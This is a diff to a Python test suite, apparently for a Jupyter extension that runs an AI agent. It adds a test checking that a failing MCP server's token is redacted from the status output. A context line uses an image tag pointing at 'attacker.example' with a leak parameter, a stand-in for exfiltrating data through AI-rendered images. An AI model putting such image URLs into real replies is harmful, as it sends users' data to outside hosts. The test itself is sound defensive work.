@@ -153,3 +153,26 @@ def test_replies_load_no_remote_image_unless_the_user_opts_in(kernel):
     on = kernel.run("%ollie ask draw it again").html()
     kernel.run("%config OllieMagics.remote_images = False")
     assert '<img src="https://attacker.example/p.png?k=leak" alt="chart" />' in on
+
+
+def test_a_failing_servers_stderr_is_redacted_when_the_kernels_agent_starts(tmp_path):
+    """22.7: the agent configured for the kernel starts at the first `%ollie` after
+    `%load_ext` and shows its servers' failures there: the stderr tail redacted."""
+    token = "remote-" + "u" * 30
+    failing = (
+        "import os, sys; sys.stderr.write('refused ' + os.environ['REMOTE_TOKEN']); sys.exit(2)"
+    )
+    agent = tmp_path / "failing.json"
+    server = {"command": sys.executable, "args": ["-c", failing], "env": {"REMOTE_TOKEN": token}}
+    agent.write_text(json.dumps({"mcpServers": {"remote": server}}))
+    env = kernel_env(tmp_path)
+    env["HOME"] = str(tmp_path / "home")
+    k = Kernel(str(tmp_path), env)
+    try:
+        assert k.run(f"get_ipython().config.OllieMagics.agent = {str(agent)!r}").error is None
+        assert k.run("%load_ext ollie_nb").error is None
+        run = k.run("%ollie status")
+        assert run.error is None, run.error
+        assert "refused ***" in run.text() and token not in run.text() + run.html()
+    finally:
+        k.shutdown()
